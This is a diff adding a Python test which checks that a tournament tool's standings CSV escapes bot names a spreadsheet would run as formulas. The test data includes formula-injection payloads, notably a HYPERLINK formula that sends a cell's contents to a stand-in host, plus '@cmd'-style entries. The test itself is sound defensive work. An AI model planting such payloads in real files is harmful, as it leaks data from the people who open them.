@@ -673,3 +673,25 @@ def test_a_game_registered_through_an_entry_point_runs_as_a_match_and_a_tourname
     report = json.loads(done.stdout)
     assert sorted(r["bot"] for r in report["standings"]) == ["random-1", "random-2"]
     assert len(report["matches"]) == 2 and all(m["scores"] for m in report["matches"])
+
+
+def test_standings_csv_cells_a_spreadsheet_would_run_as_formulas_are_text() -> None:
+    """A bot named ``=HYPERLINK(...)`` (check_name allows it) is a formula when the organiser
+    opens the grading CSV in a spreadsheet: such text cells start with ``'``; numbers do not."""
+    import csv
+    import io
+
+    from cardarena_tournament import lifecycle
+    from cardarena_tournament.commands import write_standings_csv
+
+    names = ['=HYPERLINK("//x.example/?"&A1,"me")', "+1", "-sum", "@cmd", "\tx", "plain=name"]
+    t = lifecycle.new_tournament(game="glaves", players=2, entrants=names, deal_sets=1, options={}, tid="wk1")
+    rows = [
+        {"rank": n, "bot": name, "mean": -0.5, "strikes": 0, "forfeits": 0, "places": {}}
+        for n, name in enumerate(names, 1)
+    ]
+    out = io.StringIO()
+    write_standings_csv(t, rows, out)
+    read = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert [r["bot"] for r in read] == [*("'" + n for n in names[:5]), "plain=name"]
+    assert {r["mean"] for r in read} == {"-0.5"}
